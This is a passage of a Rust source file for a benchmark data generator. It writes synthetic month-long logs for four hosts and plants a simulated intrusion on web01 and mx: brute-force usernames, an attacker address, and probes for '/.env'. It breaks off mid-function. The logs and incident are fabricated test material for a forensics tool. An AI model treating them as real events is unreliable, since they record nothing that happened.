//! jikoku-bench: deterministic, realistic multi-host data sets for benchmarks and scale tests.
//!
//! [`generate`] writes one directory per host, laid out like a mounted image
//! (`HOST/etc/hostname`, `HOST/etc/timezone`, `HOST/var/log/…`), with:
//! - BSD syslog (`auth.log`, `syslog`) and, on one host, rsyslog's RFC 3339 format: sshd
//!   (failed, invalid user, accepted, disconnects), PAM sessions, sudo, su, cron, systemd;
//!   7-digit pids on a fifth of the lines; host names of 2 characters (`db`, `mx`, `ns`);
//! - postfix (`mx`) and sendmail (`ns`) message flows;
//! - Apache (`web01`) and nginx (`ns`) combined access logs with escaped quotes and TLS
//!   handshakes sent to the plain-text port (`\x16\x03\x01…`);
//! - Linux pacct v3 (64-byte records) and glibc wtmp (384-byte records) on every host;
//! - rotation: `X.2.gz` (oldest), `X.1`, `X` for text logs; `pacct.1.gz`, `wtmp.1` for binaries;
//!   each file's mtime is its last record's time;
//! - four zones (Asia/Tokyo, America/New_York with its March DST change, Europe/Berlin,
//!   Australia/Sydney), one month of March 2025;
//! - a planted incident on `web01` (brute force, login, sudo, downloaded script, web shell,
//!   login record, accounting records) and `mx` (mail submitted from the attacker's address).
//!
//! The same seed and size give the same bytes. [`Manifest`] lists every file with the number of
//! records written, so a test can check that jikoku reads exactly these.

#![allow(clippy::indexing_slicing)] // fixed-size binary records written at constant offsets

use std::collections::BTreeMap;
use std::fs::File;
use std::io::{BufWriter, Write};
use std::path::{Path, PathBuf};

use anyhow::{Context, Result};
use chrono::{DateTime, TimeZone, Utc};
use chrono_tz::Tz;
use serde::Serialize;

/// What to generate.
#[derive(Debug, Clone)]
pub struct Config {
    /// Approximate total size in bytes (uncompressed content).
    pub size: u64,
    /// PRNG seed.
    pub seed: u64,
    /// Output directory (created).
    pub out: PathBuf,
}

/// One generated file.
#[derive(Debug, Clone, Serialize)]
pub struct FileEntry {
    /// Path relative to the output directory.
    pub path: String,
    /// Host directory it belongs to.
    pub host: String,
    /// What was written (`syslog.bsd`, `syslog.rfc3339`, `postfix`, `sendmail`, `apache`,
    /// `nginx`, `pacct.v3`, `wtmp`).
    pub kind: String,
    /// Lines or binary records written.
    pub records: u64,
    /// Uncompressed bytes.
    pub bytes: u64,
    /// Bytes on disk.
    pub stored: u64,
    /// gzip member.
    pub gzip: bool,
}

/// The planted incident: what a search or `at` should find.
#[derive(Debug, Clone, Serialize)]
pub struct Incident {
    /// When the attacker logged in (UTC, RFC 3339).
    pub login_utc: String,
    /// The attacker's address.
    pub ip: String,
    /// The account used.
    pub user: String,
    /// The host.
    pub host: String,
    /// Records planted, by file kind.
    pub records: BTreeMap<String, u64>,
}

/// What was written.
#[derive(Debug, Clone, Serialize)]
pub struct Manifest {
    /// Seed used.
    pub seed: u64,
    /// Size asked for.
    pub size_requested: u64,
    /// Uncompressed bytes written.
    pub bytes: u64,
    /// Bytes on disk.
    pub stored: u64,
    /// Records written, all files.
    pub records: u64,
    /// Records by kind.
    pub records_by_kind: BTreeMap<String, u64>,
    /// Bytes by kind.
    pub bytes_by_kind: BTreeMap<String, u64>,
    /// Every file.
    pub files: Vec<FileEntry>,
    /// The planted incident.
    pub incident: Incident,
}

/// `10MB`, `1G`, `500M`, `2048` (bytes; K/M/G/T powers of 1024, an optional `B`/`iB`).
pub fn parse_size(s: &str) -> Option<u64> {
    let t = s.trim().to_ascii_uppercase();
    let t = t.trim_end_matches("IB").trim_end_matches('B');
    let (num, mult) = match t.chars().last()? {
        'K' => (t.get(..t.len() - 1)?, 1u64 << 10),
        'M' => (t.get(..t.len() - 1)?, 1 << 20),
        'G' => (t.get(..t.len() - 1)?, 1 << 30),
        'T' => (t.get(..t.len() - 1)?, 1 << 40),
        _ => (t, 1),
    };
    let n: f64 = num.trim().parse().ok()?;
    if !(n.is_finite() && n > 0.0) {
        return None;
    }
    Some((n * mult as f64) as u64)
}

/// SplitMix64: small, fast, and the same on every platform and version.
#[derive(Debug, Clone)]
pub struct Rng(u64);

impl Rng {
    /// A generator from a seed.
    pub fn new(seed: u64) -> Self {
        Rng(seed ^ 0x6a09_e667_f3bc_c909)
    }
    /// Next 64 bits.
    pub fn next_u64(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        z ^ (z >> 31)
    }
    /// Uniform in [0, n) (n > 0).
    pub fn below(&mut self, n: u64) -> u64 {
        if n == 0 { 0 } else { self.next_u64() % n }
    }
    /// Uniform in [lo, hi].
    pub fn range(&mut self, lo: u64, hi: u64) -> u64 {
        lo + self.below(hi.saturating_sub(lo) + 1)
    }
    /// True with probability p.
    pub fn chance(&mut self, p: f64) -> bool {
        (self.next_u64() >> 11) as f64 / (1u64 << 53) as f64 <= p
    }
    /// One element (the default for an empty table).
    pub fn pick<T: Copy + Default>(&mut self, xs: &[T]) -> T {
        let i = self.below(xs.len() as u64) as usize;
        xs.get(i).copied().unwrap_or_default()
    }
}

const USERS: &[&str] = &[
    "alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi", "ivan", "judy", "kenji",
    "mallory", "oscar", "peggy", "trent", "victor", "walter", "yuki", "sato", "tanaka",
];
const BAD_USERS: &[&str] =
    &["admin", "test", "oracle", "ubuntu", "pi", "guest", "user", "support", "ftpuser", "git"];
const COMMANDS: &[&str] = &[
    "/usr/bin/systemctl restart nginx",
    "/usr/bin/apt-get update",
    "/usr/bin/journalctl -u ssh",
    "/bin/cat /var/log/syslog",
    "/usr/bin/id",
    "/usr/sbin/service postfix reload",
];
const COMMS: &[&str] = &[
    "bash",
    "sh",
    "ls",
    "cat",
    "grep",
    "sed",
    "awk",
    "cron",
    "run-parts",
    "logrotate",
    "sshd",
    "sudo",
    "apt-get",
    "dpkg",
    "python3",
    "perl",
    "find",
    "gzip",
    "tar",
    "systemctl",
    "php-fpm8.2",
    "nginx",
    "apache2",
    "postdrop",
    "sendmail",
    "ps",
    "df",
    "uptime",
    "date",
];
const PATHS: &[&str] = &[
    "/",
    "/index.php",
    "/wp-login.php",
    "/about/",
    "/blog/2025/03/hello-world/",
    "/static/app.css",
    "/static/app.js",
    "/images/logo.png",
    "/api/v1/items?page=2&sort=desc",
    "/search?q=%E6%99%82%E5%88%BB",
    "/robots.txt",
    "/favicon.ico",
    "/.env",
    "/wp-admin/admin-ajax.php",
    "/cgi-bin/test.cgi",
];
const AGENTS: &[&str] = &[
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64; rv:123.0) Gecko/20100101 Firefox/123.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_3 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.3 Mobile/15E148 Safari/604.1",
    "curl/7.88.1",
    "python-requests/2.31.0",
    "Googlebot/2.1 (+http://www.google.com/bot.html)",
];
const DOMAINS: &[&str] =
    &["example.org", "example.net", "mail.example.jp", "corp.example.com", "example.de"];

const START: i64 = 1_740_787_200; // 2025-03-01T00:00:00Z
const SPAN_US: i64 = 30 * 86_400 * 1_000_000;
/// The attacker's first failed password (UTC seconds): 2025-03-20T14:30:00Z.
const INCIDENT: i64 = 1_742_481_000;
const ATTACKER: &str = "203.0.113.66";
const VICTIM: &str = "deploy";

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Kind {
    SyslogBsd,
    SyslogRfc3339,
    Postfix,
    Sendmail,
    Apache,
    Nginx,
    Pacct,
    Wtmp,
}

impl Kind {
    fn name(self) -> &'static str {
        match self {
            Kind::SyslogBsd => "syslog.bsd",
            Kind::SyslogRfc3339 => "syslog.rfc3339",
            Kind::Postfix => "postfix",
            Kind::Sendmail => "sendmail",
            Kind::Apache => "apache",
            Kind::Nginx => "nginx",
            Kind::Pacct => "pacct.v3",
            Kind::Wtmp => "wtmp",
        }
    }
    /// Rough bytes per record, to spread a stream's records over the month.
    fn avg_len(self) -> u64 {
        match self {
            Kind::SyslogBsd | Kind::SyslogRfc3339 => 110,
            Kind::Postfix => 130,
            Kind::Sendmail => 230,
            Kind::Apache | Kind::Nginx => 190,
            Kind::Pacct => 64,
            Kind::Wtmp => 384,
        }
    }
    fn binary(self) -> bool {
        matches!(self, Kind::Pacct | Kind::Wtmp)
    }
}

/// What a stream writes: auth or general syslog lines (both use the syslog kinds).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Topic {
    Auth,
    System,
    Other,
}

struct HostSpec {
    name: &'static str,
    zone: &'static str,
    streams: &'static [(&'static str, Kind, Topic, u64)],
}

const HOSTS: &[HostSpec] = &[
    HostSpec {
        name: "db",
        zone: "Asia/Tokyo",
        streams: &[
            ("var/log/auth.log", Kind::SyslogBsd, Topic::Auth, 20),
            ("var/log/syslog", Kind::SyslogBsd, Topic::System, 10),
            ("var/log/account/pacct", Kind::Pacct, Topic::Other, 6),
            ("var/log/wtmp", Kind::Wtmp, Topic::Other, 2),
        ],
    },
    HostSpec {
        name: "web01",
        zone: "America/New_York",
        streams: &[
            ("var/log/auth.log", Kind::SyslogRfc3339, Topic::Auth, 20),
            ("var/log/syslog", Kind::SyslogRfc3339, Topic::System, 10),
            ("var/log/apache2/access.log", Kind::Apache, Topic::Other, 40),
            ("var/log/account/pacct", Kind::Pacct, Topic::Other, 4),
            ("var/log/wtmp", Kind::Wtmp, Topic::Other, 2),
        ],
    },
    HostSpec {
        name: "mx",
        zone: "Europe/Berlin",
        streams: &[
            ("var/log/auth.log", Kind::SyslogBsd, Topic::Auth, 12),
            ("var/log/syslog", Kind::SyslogBsd, Topic::System, 6),
            ("var/log/mail.log", Kind::Postfix, Topic::Other, 20),
            ("var/log/account/pacct", Kind::Pacct, Topic::Other, 2),
            ("var/log/wtmp", Kind::Wtmp, Topic::Other, 1),
        ],
    },
    HostSpec {
        name: "ns",
        zone: "Australia/Sydney",
        streams: &[
            ("var/log/auth.log", Kind::SyslogBsd, Topic::Auth, 8),
            ("var/log/syslog", Kind::SyslogBsd, Topic::System, 4),
            ("var/log/maillog", Kind::Sendmail, Topic::Other, 10),
            ("var/log/nginx/access.log", Kind::Nginx, Topic::Other, 20),
            ("var/log/account/pacct", Kind::Pacct, Topic::Other, 2),
            ("var/log/wtmp", Kind::Wtmp, Topic::Other, 1),
        ],
    },
];

/// Writes the data set; returns (and writes as `manifest.json`) what was written.
pub fn generate(cfg: &Config) -> Result<Manifest> {
    std::fs::create_dir_all(&cfg.out).with_context(|| cfg.out.display().to_string())?;
    let total_weight: u64 = HOSTS.iter().flat_map(|h| h.streams.iter().map(|s| s.3)).sum();
    let mut files = vec![];
    let mut incident_records: BTreeMap<String, u64> = BTreeMap::new();
    for (hi, host) in HOSTS.iter().enumerate() {
        let root = cfg.out.join(host.name);
        std::fs::create_dir_all(root.join("etc"))?;
        std::fs::write(root.join("etc/hostname"), format!("{}\n", host.name))?;
        std::fs::write(root.join("etc/timezone"), format!("{}\n", host.zone))?;
        std::fs::write(root.join("etc/passwd"), passwd())?;
        let zone: Tz = host.zone.parse().map_err(|e| anyhow::anyhow!("{e}"))?;
        for (si, (rel, kind, topic, w)) in host.streams.iter().enumerate() {
            let budget = cfg.size.saturating_mul(*w) / total_weight.max(1);
            let seed = cfg.seed ^ ((hi as u64) << 40) ^ ((si as u64) << 32);
            let mut s = Stream::new(host.name, zone, *kind, *topic, seed, budget);
            let members: &[(&str, u64, bool)] = if kind.binary() {
                if *kind == Kind::Pacct {
                    &[(".1.gz", 50, true), ("", 50, false)]
                } else {
                    &[(".1", 50, false), ("", 50, false)]
                }
            } else {
                &[(".2.gz", 40, true), (".1", 30, false), ("", 30, false)]
            };
            for (suffix, share, gz) in members {
                let path = root.join(format!("{rel}{suffix}"));
                let e = s.write_member(&path, budget * share / 100, *gz)?;
                files.push(FileEntry {
                    path: path.strip_prefix(&cfg.out).unwrap_or(&path).display().to_string(),
                    host: host.name.to_string(),
                    kind: kind.name().to_string(),
                    records: e.0,
                    bytes: e.1,
                    stored: e.2,
                    gzip: *gz,
                });
            }
            if s.planted > 0 {
                *incident_records.entry(kind.name().to_string()).or_default() += s.planted;
            }
        }
    }
    let mut records_by_kind = BTreeMap::new();
    let mut bytes_by_kind = BTreeMap::new();
    for f in &files {
        *records_by_kind.entry(f.kind.clone()).or_insert(0u64) += f.records;
        *bytes_by_kind.entry(f.kind.clone()).or_insert(0u64) += f.bytes;
    }
    let m = Manifest {
        seed: cfg.seed,
        size_requested: cfg.size,
        bytes: files.iter().map(|f| f.bytes).sum(),
        stored: files.iter().map(|f| f.stored).sum(),
        records: files.iter().map(|f| f.records).sum(),
        records_by_kind,
        bytes_by_kind,
        files,
        incident: Incident {
            login_utc: utc(INCIDENT + 60).to_rfc3339(),
            ip: ATTACKER.into(),
            user: VICTIM.into(),
            host: "web01".into(),
            records: incident_records,
        },
    };
    std::fs::write(cfg.out.join("manifest.json"), serde_json::to_string_pretty(&m)?)?;
    Ok(m)
}

fn passwd() -> String {
    let mut s = String::from(
        "root:x:0:0:root:/root:/bin/bash\nwww-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\n",
    );
    for (i, u) in USERS.iter().enumerate() {
        s.push_str(&format!("{u}:x:{}:{}::/home/{u}:/bin/bash\n", 1000 + i, 1000 + i));
    }
    s.push_str(&format!("{VICTIM}:x:1100:1100::/home/{VICTIM}:/bin/bash\n"));
    s
}

fn utc(secs: i64) -> DateTime<Utc> {
    Utc.timestamp_opt(secs, 0).single().unwrap_or_default()
}

/// Counts bytes written through it.
struct Counting<W: Write> {
    inner: W,
    n: u64,
}

impl<W: Write> Write for Counting<W> {
    fn write(&mut self, buf: &[u8]) -> std::io::Result<usize> {
        let k = self.inner.write(buf)?;
        self.n += k as u64;
        Ok(k)
    }
    fn flush(&mut self) -> std::io::Result<()> {
        self.inner.flush()
    }
}

/// One log stream of one host, written across its rotated members in time order.
struct Stream {
    host: &'static str,
    zone: Tz,
    kind: Kind,
    topic: Topic,
    rng: Rng,
    /// Current time, µs since START.
    t_us: i64,
    step_us: i64,
    planted: u64,
    incident_done: bool,
    seq: u64,
    sub_us: u64,
    /// Open wtmp sessions: (line, user, host, pid).
    sessions: Vec<(String, String, String, u32)>,
    buf: Vec<u8>,
}

impl Stream {
    fn new(host: &'static str, zone: Tz, kind: Kind, topic: Topic, seed: u64, budget: u64) -> Self {
        let expected = (budget / kind.avg_len()).max(1) as i64;
        Stream {
            host,
            zone,
            kind,
            topic,
            rng: Rng::new(seed),
            t_us: 0,
            step_us: (SPAN_US / expected).max(1),
            planted: 0,
            incident_done: false,
            seq: 0,
            sub_us: 0,
            sessions: vec![],
            buf: Vec::with_capacity(4096),
        }
    }

    /// Writes records until `budget` bytes; returns (records, bytes, stored bytes).
    fn write_member(&mut self, path: &Path, budget: u64, gz: bool) -> Result<(u64, u64, u64)> {
        if let Some(d) = path.parent() {
            std::fs::create_dir_all(d)?;
        }
        let file = File::create(path).with_context(|| path.display().to_string())?;
        let bw = BufWriter::with_capacity(1 << 20, file);
        let (records, bytes, file) = if gz {
            let enc = flate2::write::GzEncoder::new(bw, flate2::Compression::fast());
            let mut c = Counting { inner: enc, n: 0 };
            let r = self.fill(&mut c, budget)?;
            let bw = c.inner.finish()?;
            (r, c.n, bw.into_inner().map_err(|e| e.into_error())?)
        } else {
            let mut c = Counting { inner: bw, n: 0 };
            let r = self.fill(&mut c, budget)?;
            (r, c.n, c.inner.into_inner().map_err(|e| e.into_error())?)
        };
        let mtime = std::time::UNIX_EPOCH
            + std::time::Duration::from_secs((START + self.t_us / 1_000_000 + 60).max(0) as u64);
        file.set_modified(mtime)?;
        let stored = file.metadata()?.len();
        Ok((records, bytes, stored))
    }

    fn fill(&mut self, w: &mut dyn Write, budget: u64) -> Result<u64> {
        let mut written = 0u64;
        let mut records = 0u64;
        while written < budget {
            self.buf.clear();
            let now = START + self.t_us / 1_000_000;
            self.sub_us = (self.t_us % 1_000_000) as u64 / 2;
            let planted = if !self.incident_done && now >= INCIDENT {
                self.incident_done = true;
                self.incident(now)
            } else {
                None
            };
            let n = match planted {
                Some(n) => {
                    self.planted += n;
                    n
                }
                None => self.burst(now),
            };
            w.write_all(&self.buf)?;
            written += self.buf.len() as u64;
            records += n;
            self.t_us += self.step_us * n.max(1) as i64
                + self.rng.below(self.step_us as u64) as i64
                - (self.step_us / 2);
            self.t_us = self.t_us.max(0);
        }
        Ok(records)
    }

    fn pid(&mut self) -> u32 {
        if self.rng.chance(0.2) {
            self.rng.range(1_000_000, 4_194_303) as u32
        } else {
            self.rng.range(300, 99_999) as u32
        }
    }

    fn ip(&mut self) -> String {
        let r = &mut self.rng;
        match r.below(4) {
            0 => format!("10.{}.{}.{}", r.below(256), r.below(256), r.range(1, 254)),
            1 => format!("198.51.100.{}", r.range(1, 254)),
            2 => format!(
                "{}.{}.{}.{}",
                r.range(11, 223),
                r.below(256),
                r.below(256),
                r.range(1, 254)
            ),
            _ => format!("2001:db8:{:x}::{:x}", r.below(65536), r.range(1, 65535)),
        }
    }

    /// The syslog header of a line at `secs` (UTC seconds), with `usec` for RFC 3339.
    fn header(&mut self, secs: i64, prog: &str, pid: Option<u32>) {
        let local = utc(secs).with_timezone(&self.zone);
        // Sub-second part: the stream's clock, nudged forward within the burst.
        self.sub_us = (self.sub_us + 1 + self.rng.below(500)).min(999_999);
        let usec = self.sub_us;
        let ts = match self.kind {
            Kind::SyslogRfc3339 => {
                format!("{}.{usec:06}{}", local.format("%Y-%m-%dT%H:%M:%S"), local.format("%:z"))
            }
            _ => local.format("%b %e %H:%M:%S").to_string(),
        };
        let _ = match pid {
            Some(p) => write!(self.buf, "{ts} {} {prog}[{p}]: ", self.host),
            None => write!(self.buf, "{ts} {} {prog}: ", self.host),
        };
    }

    fn line(&mut self, secs: i64, prog: &str, pid: Option<u32>, msg: &str) {
        self.header(secs, prog, pid);
        self.buf.extend_from_slice(msg.as_bytes());
        self.buf.push(b'\n');
    }

    /// Writes one burst of records at `now`; returns how many.
    fn burst(&mut self, now: i64) -> u64 {
        match (self.kind, self.topic) {
            (Kind::SyslogBsd | Kind::SyslogRfc3339, Topic::Auth) => self.auth(now),
            (Kind::SyslogBsd | Kind::SyslogRfc3339, _) => self.system(now),
            (Kind::Postfix, _) => self.postfix(now, None),
            (Kind::Sendmail, _) => self.sendmail(now),
            (Kind::Apache | Kind::Nginx, _) => self.access(now, None),
            (Kind::Pacct, _) => {
                let comm = self.rng.pick(COMMS);
                let uid = if self.rng.chance(0.5) { 0 } else { 1000 + self.rng.below(20) as u32 };
                let pid = self.pid();
                self.pacct(now, comm, uid, pid, 0);
                1
            }
            (Kind::Wtmp, _) => self.wtmp(now),
        }
    }

    fn auth(&mut self, now: i64) -> u64 {
        let user = self.rng.pick(USERS);
        let ip = self.ip();
        let port = self.rng.range(1024, 65535);
        let pid = self.pid();
        let r = self.rng.below(100);
        match r {
            0..=29 => {
                let msg = if self.rng.chance(0.5) {
                    format!("Failed password for {user} from {ip} port {port} ssh2")
                } else {
                    let bad = self.rng.pick(BAD_USERS);
                    format!("Failed password for invalid user {bad} from {ip} port {port} ssh2")
                };
                self.line(now, "sshd", Some(pid), &msg);
                1
            }
            30..=39 => {
                let bad = self.rng.pick(BAD_USERS);
                self.line(
                    now,
                    "sshd",
                    Some(pid),
                    &format!("Invalid user {bad} from {ip} port {port}"),
                );
                self.line(
                    now,
                    "sshd",
                    Some(pid),
                    &format!("Connection closed by invalid user {bad} {ip} port {port} [preauth]"),
                );
                2
            }
            40..=59 => {
                let how = if self.rng.chance(0.7) { "publickey" } else { "password" };
                let key = if how == "publickey" {
                    ": ED25519 SHA256:Xq3kR9pL2mN7vB4cT8yH1wE6uJ5oI0aS3dF7gK2lZ9x"
                } else {
                    ""
                };
                let uid = 1000 + USERS.iter().position(|u| *u == user).unwrap_or(0);
                self.line(
                    now,
                    "sshd",
                    Some(pid),
                    &format!("Accepted {how} for {user} from {ip} port {port} ssh2{key}"),
                );
                self.line(
                    now,
                    "sshd",
                    Some(pid),
                    &format!("pam_unix(sshd:session): session opened for user {user}(uid={uid}) by (uid=0)"),
                );
                self.line(
                    now + 1,
                    "systemd-logind",
                    Some(700),
                    &format!("New session {} of user {user}.", self.seq),
                );
                self.seq += 1;
                self.line(
                    now + 2,
                    "sshd",
                    Some(pid),
                    &format!("Received disconnect from {ip} port {port}:11: disconnected by user"),
                );
                self.line(
                    now + 2,
                    "sshd",
                    Some(pid),
                    &format!("Disconnected from user {user} {ip} port {port}"),
                );
                self.line(
                    now + 2,
                    "sshd",
                    Some(pid),
                    &format!("pam_unix(sshd:session): session closed for user {user}"),
                );
                6
            }
            60..=74 => {
                let cmd = self.rng.pick(COMMANDS);
                let tty = self.rng.below(10);
                let uid = 1000 + USERS.iter().position(|u| *u == user).unwrap_or(0);
                self.line(
                    now,
                    "sudo",
                    None,
                    &format!(
                        "   {user} : TTY=pts/{tty} ; PWD=/home/{user} ; USER=root ; COMMAND={cmd}"
                    ),
                );
                self.line(
                    now,
                    "sudo",
                    None,
                    &format!("pam_unix(sudo:session): session opened for user root(uid=0) by {user}(uid={uid})"),
                );
                self.line(
                    now,
                    "sudo",
                    None,
                    "pam_unix(sudo:session): session closed for user root",
                );
                3
            }
            75..=84 => {
                let tty = self.rng.below(10);
                let uid = 1000 + USERS.iter().position(|u| *u == user).unwrap_or(0);
                self.line(now, "su", Some(pid), &format!("(to root) {user} on pts/{tty}"));
                self.line(
                    now,
                    "su",
                    Some(pid),
                    &format!("pam_unix(su:session): session opened for user root(uid=0) by {user}(uid={uid})"),
                );
                2
            }
            _ => {
                self.line(
                    now,
                    "CRON",
                    Some(pid),
                    "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)",
                );
                self.line(
                    now,
                    "CRON",
                    Some(pid + 1),
                    "(root) CMD (cd / && run-parts --report /etc/cron.hourly)",
                );
                self.line(
                    now,
                    "CRON",
                    Some(pid),
                    "pam_unix(cron:session): session closed for user root",
                );
                3
            }
        }
    }

    fn system(&mut self, now: i64) -> u64 {
        let r = self.rng.below(100);
        let pid = self.pid();
        match r {
            0..=29 => {
                let (src, dst) = (self.ip(), self.ip());
                let up = (now - START + 1234) as f64 + self.rng.below(1_000_000) as f64 / 1e6;
                let msg = format!(
                    "[{up:.6}] [UFW BLOCK] IN=eth0 OUT= MAC=52:54:00:12:34:56:52:54:00:65:43:21:08:00 SRC={src} DST={dst} LEN=60 TOS=0x00 PREC=0x00 TTL=49 ID={} DF PROTO=TCP SPT={} DPT=22 WINDOW=64240 RES=0x00 SYN URGP=0",
                    self.rng.below(65536),
                    self.rng.range(1024, 65535)
                );
                self.line(now, "kernel", None, &msg);
                1
            }
            30..=59 => {
                let user = self.rng.pick(USERS);
                let n = self.seq;
                self.seq += 1;
                self.line(
                    now,
                    "systemd",
                    Some(1),
                    &format!("Started session-{n}.scope - Session {n} of User {user}."),
                );
                self.line(
                    now + 1,
                    "systemd",
                    Some(1),
                    &format!("session-{n}.scope: Deactivated successfully."),
                );
                2
            }
            60..=79 => {
                self.line(now, "CRON", Some(pid), "(root) CMD (   test -x /etc/cron.daily/popularity-contest && /etc/cron.daily/popularity-contest --crond)");
                1
            }
            80..=89 => {
                let ip = self.ip();
                let xid = self.rng.next_u64() as u32;
                self.line(
                    now,
                    "dhclient",
                    Some(pid),
                    &format!("DHCPACK of {ip} from 10.0.0.1 (xid=0x{xid:08x})"),
                );
                1
            }
            _ => {
                self.line(
                    now,
                    "systemd",
                    Some(1),
                    "Starting apt-daily.service - Daily apt download activities...",
                );
                self.line(
                    now + 3,
                    "systemd",
                    Some(1),
                    "apt-daily.service: Deactivated successfully.",
                );
                self.line(
                    now + 3,
                    "systemd",
                    Some(1),
                    "Finished apt-daily.service - Daily apt download activities.",
                );
                3
            }
        }
    }

    fn qid(&mut self) -> String {
        format!("{:010X}", self.rng.next_u64() & 0xff_ffff_ffff)
    }

    fn postfix(&mut self, now: i64, from_attacker: Option<&str>) -> u64 {
        let (ip, name) = match from_attacker {
            Some(a) => (a.to_string(), "unknown".to_string()),
            None => {
                let ip = self.ip();
                let d = self.rng.pick(DOMAINS);
                (ip, format!("mail.{d}"))
            }
        };
        let qid = self.qid();
        let (smtpd, cleanup, qmgr, smtp) = (self.pid(), self.pid(), self.pid(), self.pid());
        let from = format!("{}@{}", self.rng.pick(USERS), self.rng.pick(DOMAINS));
        let to = format!("{}@{}", self.rng.pick(USERS), self.rng.pick(DOMAINS));
        let size = self.rng.range(800, 200_000);
        if from_attacker.is_none() && self.rng.chance(0.15) {
            self.line(now, "postfix/smtpd", Some(smtpd), &format!("connect from {name}[{ip}]"));
            self.line(now, "postfix/smtpd", Some(smtpd), &format!("NOQUEUE: reject: RCPT from {name}[{ip}]: 554 5.7.1 <{to}>: Relay access denied; from=<{from}> to=<{to}> proto=ESMTP helo=<{name}>"));
            self.line(
                now,
                "postfix/smtpd",
                Some(smtpd),
                &format!("disconnect from {name}[{ip}] ehlo=1 mail=1 rcpt=0/1 quit=1 commands=3/4"),
            );
            return 3;
        }
        let sasl = match from_attacker {
            Some(_) => format!(", sasl_method=PLAIN, sasl_username={VICTIM}"),
            None => String::new(),
        };
        self.line(now, "postfix/smtpd", Some(smtpd), &format!("connect from {name}[{ip}]"));
        self.line(now, "postfix/smtpd", Some(smtpd), &format!("{qid}: client={name}[{ip}]{sasl}"));
        let md = self.rng.pick(DOMAINS);
        self.line(
            now,
            "postfix/cleanup",
            Some(cleanup),
            &format!("{qid}: message-id=<{now}.{qid}@{md}>"),
        );
        self.line(
            now,
            "postfix/qmgr",
            Some(qmgr),
            &format!("{qid}: from=<{from}>, size={size}, nrcpt=1 (queue active)"),
        );
        self.line(
            now,
            "postfix/smtpd",
            Some(smtpd),
            &format!("disconnect from {name}[{ip}] ehlo=1 mail=1 rcpt=1 data=1 quit=1 commands=5"),
        );
        let relay_ip = self.ip();
        let d = self.rng.range(1, 40);
        let rd = self.rng.pick(DOMAINS);
        let q2 = self.qid();
        self.line(now + 1, "postfix/smtp", Some(smtp), &format!("{qid}: to=<{to}>, relay=mx.{}[{relay_ip}]:25, delay=1.{d}, delays=0.1/0.01/0.5/0.{d}, dsn=2.0.0, status=sent (250 2.0.0 Ok: queued as {q2})", rd));
        self.line(now + 1, "postfix/qmgr", Some(qmgr), &format!("{qid}: removed"));
        7
    }

    /// sendmail 8.12+ queue id: year, month, day, hour, minute, second in base 60, two
    /// sequence characters, then the pid (at least 6 digits).
    fn sendmail_qid(&mut self, now: i64, pid: u32) -> String {
        use chrono::{Datelike, Timelike};
        const B60: &[u8] = b"0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwx";
        let t = utc(now);
        let c = |n: u32| char::from(B60.get(n as usize % 60).copied().unwrap_or(b'0'));
        let seq = self.rng.below(3600) as u32;
        format!(
            "{}{}{}{}{}{}{}{}{pid:06}",
            c(t.year() as u32 % 10),
            c(t.month0()),
            c(t.day()),
            c(t.hour()),
            c(t.minute()),
            c(t.second()),
            c(seq / 60),
            c(seq % 60)
        )
    }

    fn sendmail(&mut self, now: i64) -> u64 {
        let pid = self.pid();
        let qid = self.sendmail_qid(now, pid);
        let ip = self.ip();
        let from = format!("{}@{}", self.rng.pick(USERS), self.rng.pick(DOMAINS));
        let to = format!("{}@{}", self.rng.pick(USERS), self.rng.pick(DOMAINS));
        let size = self.rng.range(500, 90_000);
        self.line(now, "sendmail", Some(pid), &format!("{qid}: from=<{from}>, size={size}, class=0, nrcpts=1, msgid=<{now}.{qid}@ns.example.org>, proto=ESMTP, daemon=MTA, relay=mail.example.net [{ip}]"));
        let rip = self.ip();
        self.line(now + 1, "sendmail", Some(pid), &format!("{qid}: to=<{to}>, delay=00:00:01, xdelay=00:00:01, mailer=esmtp, pri=120{size}, relay=mx.example.org. [{rip}], dsn=2.0.0, stat=Sent ({qid} Message accepted for delivery)"));
        2
    }

    fn access(&mut self, now: i64, attacker: Option<(&str, &str, u16)>) -> u64 {
        let local = utc(now).with_timezone(&self.zone);
        let ts = local.format("%d/%b/%Y:%H:%M:%S %z").to_string();
        let (ip, req, status, ua) = match attacker {
            Some((m, p, s)) => (
                ATTACKER.to_string(),
                format!("{m} {p} HTTP/1.1"),
                s,
                "python-requests/2.31.0".to_string(),
            ),
            None => {
                let ip = self.ip();
                let r = self.rng.below(1000);
                if r < 3 {
                    // A TLS handshake sent to the plain-text port: the server escapes the bytes.
                    let _ = writeln!(
                        self.buf,
                        "{ip} - - [{ts}] \"\\x16\\x03\\x01\\x02\\x00\\x01\\x00\\x01\\xfc\\x03\\x03\\x9c\\xa0\" 400 {} \"-\" \"-\"",
                        if self.kind == Kind::Nginx { 157 } else { 226 }
                    );
                    return 1;
                }
                let path = self.rng.pick(PATHS);
                let method = if self.rng.chance(0.1) { "POST" } else { "GET" };
                let status = self.rng.pick(&[200u16, 200, 200, 200, 301, 304, 404, 403, 500]);
                let ua = if r < 13 {
                    // A user agent with a double quote in it, escaped as the server writes it.
                    let q = if self.kind == Kind::Nginx { "\\x22" } else { "\\\"" };
                    format!("Mozilla/5.0 {q}compatible; Scanner/1.0{q}")
                } else {
                    self.rng.pick(AGENTS).to_string()
                };
                (ip, format!("{method} {path} HTTP/1.1"), status, ua)
            }
        };
        let bytes = if status == 304 { 0 } else { self.rng.range(0, 60_000) };
        let user =
            if attacker.is_none() && self.rng.chance(0.05) { self.rng.pick(USERS) } else { "-" };
        let referer = if self.rng.chance(0.3) {
            format!("https://{}/", self.rng.pick(DOMAINS))
        } else {
            "-".into()
        };
